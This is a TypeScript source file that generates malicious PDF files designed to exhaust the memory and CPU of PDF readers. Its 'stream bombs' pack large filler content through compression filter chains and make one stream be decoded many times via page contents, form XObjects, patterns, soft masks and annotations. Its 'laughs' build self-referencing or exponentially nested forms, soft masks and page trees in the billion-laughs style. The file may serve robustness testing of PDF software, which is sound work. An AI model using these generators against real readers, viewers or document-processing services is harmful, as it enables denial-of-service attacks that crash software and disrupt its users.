import { packByChain, type Filter } from "./pack.ts";
import { RawPdf } from "./raw-pdf.ts";

const MB = 1024 * 1024;

export const FILLINGS = {
  spaces: " ",
  nulls: "\0",
  operators: "q Q ",
  numbers: "0 ",
  lines: "0 0 m 612 792 l S\n",
  texts: "BT(a)Tj ET ",
  strings: "(((((",
  comments: "%\n",
} as const;
type Filling = keyof typeof FILLINGS;

const fill = (filling: Filling, megabytes: number): Uint8Array =>
  Buffer.alloc(Math.round(megabytes * MB), FILLINGS[filling]);

function bomb(pdf: RawPdf, filters: readonly Filter[], content: Uint8Array, dict = ""): string {
  return pdf.stream(
    packByChain(filters, content),
    `${filters.length === 1 ? `/Filter/${filters[0]}` : `/Filter[${filters.map((name) => `/${name}`).join("")}]`}${dict}`,
  );
}

const form = (resources = "", box = "0 0 612 792"): string =>
  `/Type/XObject/Subtype/Form/BBox[${box}]${resources === "" ? "" : `/Resources<<${resources}>>`}`;

/** Ways in which a PDF makes a reader open one stream `times` times. */
export const PATHS = {
  contents: (pdf, stream, times) => pdf.finishPage(`/Contents[${`${stream} `.repeat(times)}]`),
  "contents of many pages": (pdf, stream, times) => {
    const pages = pdf.next(times);
    const kids = Array.from({ length: times }, () =>
      pdf.add(`<</Type/Page/Parent ${pages}/MediaBox[0 0 612 792]/Contents ${stream}>>`),
    );
    pdf.add(`<</Type/Pages/Kids[${kids.join(" ")}]/Count ${times}>>`);
    return pdf.finish(pdf.add(`<</Type/Catalog/Pages ${pages}>>`));
  },
  form: (pdf, stream, times) => pdf.draw(pdf.packed("/F Do ".repeat(times)), `/XObject<</F ${stream}>>`),
  "resources of the page tree": (pdf, stream, times) => {
    const pages = pdf.next(2);
    const content = pdf.packed("/F Do ".repeat(times));
    const leaf = pdf.add(`<</Type/Page/Parent ${pages}/MediaBox[0 0 612 792]/Contents ${content}>>`);
    pdf.add(`<</Type/Pages/Kids[${leaf}]/Count 1/Resources<</XObject<</F ${stream}>>>>>>`);
    return pdf.finish(pdf.add(`<</Type/Catalog/Pages ${pages}>>`));
  },
  "name split between two streams": (pdf, stream, times) => {
    const [name, operator] = [pdf.stream("/F"), pdf.stream(" Do ")];
    return pdf.finishPage(`/Contents[${`${name} ${operator} `.repeat(times)}]/Resources<</XObject<</F ${stream}>>>>`);
  },
  pattern: (pdf, stream, times) =>
    pdf.draw(pdf.packed(`/Pattern cs /P scn ${"0 0 9 9 re f ".repeat(times)}`), `/Pattern<</P ${stream}>>`),
  "soft mask": (pdf, stream, times) =>
    pdf.draw(
      pdf.packed("/G gs 0 0 9 9 re f ".repeat(times)),
      `/ExtGState<</G<</SMask<</S/Luminosity/G ${stream}>>>>>>`,
    ),
  annotation: (pdf, stream, times) => {
    const stamp = pdf.add(`<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/AP<</N ${stream}>>>>`);
    return pdf.finishPage(`/Annots[${`${stamp} `.repeat(times)}]`);
  },
  link: (pdf, stream, times) => {
    const link = pdf.add(`<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/AP<</N ${stream}>>>>`);
    return pdf.finishPage(`/Annots[${`${link} `.repeat(times)}]`);
  },
  "form field": (pdf, stream, times) => {
    const field = pdf.add(`<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AP<</N ${stream}>>>>`);
    return pdf.finishPage(`/Annots[${`${field} `.repeat(times)}]`, "", `/AcroForm<</Fields[${field}]>>`);
  },
} satisfies Record<string, (pdf: RawPdf, stream: string, times: number) => Buffer>;
export type Path = keyof typeof PATHS;

/** Dictionary keys that make the stream drawable by every path. */
const DRAWABLE = `${form()}/PatternType 1/PaintType 1/TilingType 1/XStep 9/YStep 9`;

export function makeStreamBomb(
  path: Path,
  filters: readonly Filter[],
  filling: Filling,
  megabytes: number,
  times: number,
): Buffer {
  const pdf = new RawPdf();
  return PATHS[path](pdf, bomb(pdf, filters, fill(filling, megabytes), DRAWABLE), times);
}

/** Chains in which each part refers to the next part several times. */
export const LAUGHS = {
  forms: (depth, width) => {
    const pdf = new RawPdf();
    let inner = pdf.stream("0 0 9 9 re f ", form());
    for (let level = 0; level < depth; level += 1)
      inner = pdf.stream("/F Do ".repeat(width), form(`/XObject<</F ${inner}>>`));
    return pdf.draw("/F Do", `/XObject<</F ${inner}>>`);
  },
  "forms that draw themselves": (depth, width) => {
    const pdf = new RawPdf();
    const names = Array.from({ length: width }, (_, index) => `/F${index}`);
    const first = pdf.next();
    for (let level = 0; level < depth; level += 1) {
      const next = level === depth - 1 ? first : pdf.next(1);
      pdf.stream(
        names.map((name) => `${name} Do `).join(""),
        form(`/XObject<<${names.map((name) => `${name} ${next}`).join("")}>>`),
      );
    }
    return pdf.draw("/F Do", `/XObject<</F ${first}>>`);
  },
  "soft masks": (depth, width) => {
    const pdf = new RawPdf();
    let inner = pdf.stream("0 0 9 9 re f ", form());
    for (let level = 0; level < depth; level += 1)
      inner = pdf.stream(
        "/G gs 0 0 9 9 re f ".repeat(width),
        `${form(`/ExtGState<</G<</SMask<</S/Luminosity/G ${inner}>>>>>>`)}/Group<</S/Transparency>>`,
      );
    return pdf.draw("/G gs 0 0 9 9 re f", `/ExtGState<</G<</SMask<</S/Luminosity/G ${inner}>>>>>>`);
  },
  pages: (depth, width) => {
    const pdf = new RawPdf();
    const root = pdf.next(depth + 1);
    let inner = pdf.add(`<</Type/Page/Parent ${root}/MediaBox[0 0 612 792]>>`);
    for (let level = 0; level < depth; level += 1)
      inner = pdf.add(`<</Type/Pages/Parent ${root}/Count 1/Kids[${`${inner} `.repeat(width)}]>>`);
    pdf.add(`<</Type/Pages/Count 1/Kids[${inner}]>>`);
    return pdf.finish(pdf.add(`<</Type/Catalog/Pages ${root}>>`));
  },
} satisfies Record<string, (depth: number, width: number) => Buffer>;
export type Laugh = keyof typeof LAUGHS;
